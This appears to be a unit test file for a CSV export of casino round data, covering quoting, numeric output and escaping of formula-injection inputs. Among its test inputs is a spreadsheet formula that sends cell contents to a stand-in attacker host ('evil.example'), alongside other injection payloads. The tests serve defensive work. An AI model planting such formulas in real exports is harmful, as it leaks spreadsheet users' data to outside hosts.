import { csvHeader, csvLines, EXPORT_COLUMNS, ExportRow } from './rounds-csv';

const EMPTY = Object.fromEntries(EXPORT_COLUMNS.map((c) => [c, null])) as ExportRow;
const cells = (line: string) => line.replace(/\r\n$/, '');

describe('CSV export lines', () => {
  it('writes the header line', () => {
    expect(csvHeader()).toBe(`${EXPORT_COLUMNS.join(',')}\r\n`);
  });

  it('quotes fields holding commas, quotes or line breaks (RFC 4180) and leaves nulls empty', () => {
    expect(
      csvLines([{ ...EMPTY, roundId: 'r', voidReason: 'dealer said "stop", then left' }]),
    ).toBe(`r${','.repeat(9)}"dealer said ""stop"", then left"${','.repeat(6)}\r\n`);
    expect(csvLines([{ ...EMPTY, roundId: 'r', voidReason: 'a\nb', net: 100 }])).toBe(
      `r${','.repeat(9)}"a\nb",,,,,,100\r\n`,
    );
  });

  it.each([
    [
      '=',
      '=HYPERLINK("http://evil.example/?d="&A1,"details")',
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""details"")"`,
    ],
    ['+', '+1+cmd', "'+1+cmd"],
    ['-', '-2+3', "'-2+3"],
    ['@', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['tab', '\t=1+1', `'\t=1+1`],
    ['CR', '\r=1+1', `"'\r=1+1"`],
    ['full-width =', '\uFF1D1+1', "'\uFF1D1+1"],
  ])(
    'prefixes a text cell starting with %s so a spreadsheet shows it as text',
    (_p, text, cell) => {
      const line = cells(csvLines([{ ...EMPTY, voidReason: text }]));
      expect(line.split(',').slice(0, 9)).toEqual(Array(9).fill(''));
      expect(line.slice(9)).toBe(`${cell},,,,,,`);
    },
  );

  it('escapes every text column, not only the void reason', () => {
    const line = cells(
      csvLines([{ ...EMPTY, roundId: '=1', tableId: '+t', game: '-g', status: '@s' }]),
    );
    expect(line.startsWith("'=1,'+t,'-g,,,,'@s,")).toBe(true);
  });

  it('leaves numbers as numbers, negative ones included', () => {
    const line = cells(
      csvLines([
        {
          ...EMPTY,
          shoeNumber: 3,
          roundNumber: 12,
          bets: 2,
          staked: 5000,
          returned: 2500,
          net: -2500,
        },
      ]),
    );
    expect(line).toBe(',,,,3,12,,,,,,,2,5000,2500,-2500');
  });

  it('names the platform and currency of each line of totals', () => {
    const lines = csvLines([
      { ...EMPTY, roundId: 'r', platformId: 'casino-a', currency: 'EUR', bets: 1, net: -100 },
      { ...EMPTY, roundId: 'r', platformId: 'casino-b', currency: 'THB', bets: 1, net: 900 },
    ]);
    expect(lines).toBe(`r,,,,,,,,,,casino-a,EUR,1,,,-100\r\nr,,,,,,,,,,casino-b,THB,1,,,900\r\n`);
  });
});
